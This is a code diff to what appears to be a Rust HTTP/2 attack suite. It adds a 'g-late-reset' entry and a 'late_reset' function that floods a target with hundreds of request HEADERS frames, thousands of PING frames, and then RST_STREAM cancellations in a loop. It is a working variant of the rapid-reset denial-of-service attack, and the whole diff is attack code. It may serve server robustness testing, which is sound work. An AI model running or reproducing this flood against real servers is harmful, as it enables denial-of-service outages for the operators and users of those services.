@@ -10,6 +10,7 @@ use crate::wire::{self, RawConnection, frame, header_block, literal};
 /// The attacks of this family.
 pub const ATTACKS: &[Attack] = &[
     ("g-rapid-reset", |target| Box::pin(rapid_reset(target))),
+    ("g-late-reset", |target| Box::pin(late_reset(target))),
     ("g-reset-by-error", |target| {
         Box::pin(reset_by_error(target))
     }),
@@ -97,6 +98,26 @@ async fn rapid_reset(target: Arc<Target>) -> Outcome {
             bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
             stream += 2;
         }
+        Some(bytes)
+    };
+    flood(&target, true, Vec::new(), next).await
+}
+
+/// Requests that are cancelled after the server has begun them: it reads so many bytes in between that they are in another
+/// turn of the connection.
+async fn late_reset(target: Arc<Target>) -> Outcome {
+    const REQUESTS: u32 = 300;
+    let block = header_block(wire::BATCH);
+    let pings = frame(6, 0, 0, &[7; 8]).repeat(2_000);
+    let mut first = 1_u32;
+    let next = || {
+        let streams = || (0..REQUESTS).map(|number| first + 2 * number);
+        let mut bytes: Vec<u8> = streams()
+            .flat_map(|stream| frame(1, END_HEADERS, stream, &block))
+            .collect();
+        bytes.extend(&pings);
+        bytes.extend(streams().flat_map(|stream| frame(3, 0, stream, &8_u32.to_be_bytes())));
+        first += 2 * REQUESTS;
         Some(bytes)
     };
     flood(&target, true, Vec::new(), next).await
